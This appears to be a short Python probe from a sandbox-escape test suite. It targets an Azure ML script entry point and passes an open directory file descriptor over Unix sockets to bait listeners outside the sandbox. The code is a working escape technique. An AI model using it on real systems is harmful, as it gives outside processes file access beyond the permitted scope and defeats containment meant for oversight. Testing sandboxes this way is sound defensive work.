"""Hands an open file to a program outside, which would make it a way in."""

import array
import os
import socket

from attack import BAIT, attack, every


def hand(address):
    with socket.socket(socket.AF_UNIX) as made:
        made.settimeout(0.3)
        made.connect(address)
        folder = os.open(".", os.O_RDONLY)
        made.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [folder]))])
        return f"handed its folder to {address!r}"


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return every(hand, [BAIT["unix_path"], "\0" + BAIT["abstract"]])
